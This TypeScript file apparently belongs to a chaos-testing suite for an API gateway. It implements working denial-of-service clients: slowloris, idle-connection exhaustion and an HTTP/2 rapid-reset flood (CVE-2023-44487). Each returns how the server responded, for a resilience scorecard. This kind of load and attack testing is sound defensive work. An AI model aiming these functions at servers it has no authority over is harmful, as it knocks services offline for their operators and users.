// Hostile clients at the gateway, over raw sockets (what a browser-free attacker sends, byte for
// byte): each returns what the server did to it, for the chaos scorecard to judge.
import { connect as connectHttp2, constants as h2 } from 'node:http2';
import { connect, type Socket } from 'node:net';

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

function hostPort(url: string): { host: string; port: number } {
  const u = new URL(url);
  return { host: u.hostname, port: Number(u.port) };
}

/** A TCP connection to the gateway, resolved once connected. */
function open(url: string): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connect(hostPort(url), () => {
      socket.off('error', reject);
      resolve(socket);
    });
    socket.once('error', reject);
  });
}

/** What the server answered on a raw connection: its status line (if any) and when it closed. */
export interface RawOutcome {
  readonly status: number | undefined;
  readonly head: string;
  readonly body: string;
  /** ms from the first byte sent until the server closed the connection (undefined: still open). */
  readonly closedAfterMs: number | undefined;
}

/**
 * Sends `parts` (written one after another, `gapMs` apart) on one connection and collects the
 * answer until the server closes it or `waitMs` passes after the last part.
 */
export async function rawRequest(url: string, parts: ReadonlyArray<string | Buffer>, options: { gapMs?: number; waitMs?: number; stopWhen?: () => boolean } = {}): Promise<RawOutcome> {
  const socket = await open(url);
  const started = Date.now();
  let closedAt: number | undefined;
  const chunks: Buffer[] = [];
  socket.on('data', (c: Buffer) => chunks.push(c));
  socket.on('error', () => undefined);
  const closed = new Promise<void>((resolve) =>
    socket.once('close', () => {
      closedAt = Date.now();
      resolve();
    }),
  );
  for (const part of parts) {
    if (closedAt !== undefined || options.stopWhen?.()) break;
    socket.write(part);
    if (options.gapMs) await sleep(options.gapMs);
  }
  await Promise.race([closed, sleep(options.waitMs ?? 5000)]);
  socket.destroy();
  const text = Buffer.concat(chunks).toString('latin1');
  const [head = '', body = ''] = text.split('\r\n\r\n', 2);
  const status = /^HTTP\/1\.1 (\d{3})/.exec(head)?.[1];
  return { status: status === undefined ? undefined : Number(status), head, body, closedAfterMs: closedAt === undefined ? undefined : closedAt - started };
}

/**
 * Slowloris: a request's headers sent one byte every `gapMs` for `durationMs` (never finishing).
 * The answer is what the server did: a 408 and a closed connection once its header timeout passed.
 */
export function slowloris(url: string, durationMs: number, gapMs = 100): Promise<RawOutcome> {
  const header = `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nX-Padding: ${'a'.repeat(Math.ceil(durationMs / gapMs))}`;
  const started = Date.now();
  return rawRequest(url, [...header], { gapMs, waitMs: 2000, stopWhen: () => Date.now() - started >= durationMs });
}

/** `n` connections that send nothing; resolves with how many the server closed within `waitMs`. */
export async function idleConnections(url: string, n: number, waitMs: number, whileOpen: () => Promise<void>): Promise<{ opened: number; closedByServer: number }> {
  const sockets = await Promise.all(Array.from({ length: n }, () => open(url).catch(() => undefined)));
  const live = sockets.filter((s): s is Socket => s !== undefined);
  let closedByServer = 0;
  const allClosed = Promise.all(
    live.map(
      (s) =>
        new Promise<void>((resolve) => {
          s.on('error', () => undefined);
          s.once('close', () => {
            closedByServer++;
            resolve();
          });
        }),
    ),
  );
  await whileOpen();
  await Promise.race([allClosed, sleep(waitMs)]);
  for (const s of live) s.destroy();
  return { opened: live.length, closedByServer };
}

/** HTTP/2 rapid reset (CVE-2023-44487): `streams` requests opened and cancelled at once on one session. */
export async function rapidReset(url: string, streams: number): Promise<{ sent: number; goaway: string; sessionClosed: boolean }> {
  const session = connectHttp2(url);
  session.on('error', () => undefined);
  let goaway = '';
  session.on('goaway', (code: number) => (goaway = `GOAWAY ${code}${code === h2.NGHTTP2_ENHANCE_YOUR_CALM ? ' (ENHANCE_YOUR_CALM)' : ''}`));
  const closed = new Promise<void>((resolve) => session.once('close', () => resolve()));
  await new Promise<void>((resolve) => session.once('connect', () => resolve()));
  let sent = 0;
  for (let i = 0; i < streams && !session.closed && !session.destroyed; i++) {
    try {
      const req = session.request({ ':method': 'POST', ':path': '/v1/chat/completions', 'content-type': 'application/json' });
      req.on('error', () => undefined);
      req.close(h2.NGHTTP2_CANCEL);
      sent++;
    } catch {
      break;
    }
    if (i % 100 === 99) await sleep(0);
  }
  const sessionClosed = await Promise.race([closed.then(() => true), sleep(3000).then(() => false)]);
  session.destroy();
  return { sent, goaway, sessionClosed };
}
